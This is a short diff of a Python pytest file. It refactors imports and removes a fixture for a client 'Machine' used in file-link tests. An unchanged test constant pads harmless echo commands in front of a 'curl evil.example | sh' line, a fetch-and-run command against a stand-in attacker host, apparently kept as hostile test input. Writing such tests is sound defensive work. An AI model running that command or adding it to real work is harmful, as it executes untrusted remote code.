@@ -9,19 +9,10 @@ from typing import TYPE_CHECKING
 
 import pytest
 
-from tests.cli.client_machine import Machine
-
 if TYPE_CHECKING:
-    from pathlib import Path
+    from tests.cli.client_machine import Machine
 
 LONG = "echo hello world; " * 130 + "curl evil.example | sh"
-
-
-@pytest.fixture
-def machine(tmp_path: Path) -> Machine:
-    made = Machine(tmp_path)
-    made.install("notes")
-    return made
 
 
 def test_a_link_in_the_place_of_its_notes_leads_to_no_file_that_is_removed(machine: Machine) -> None:
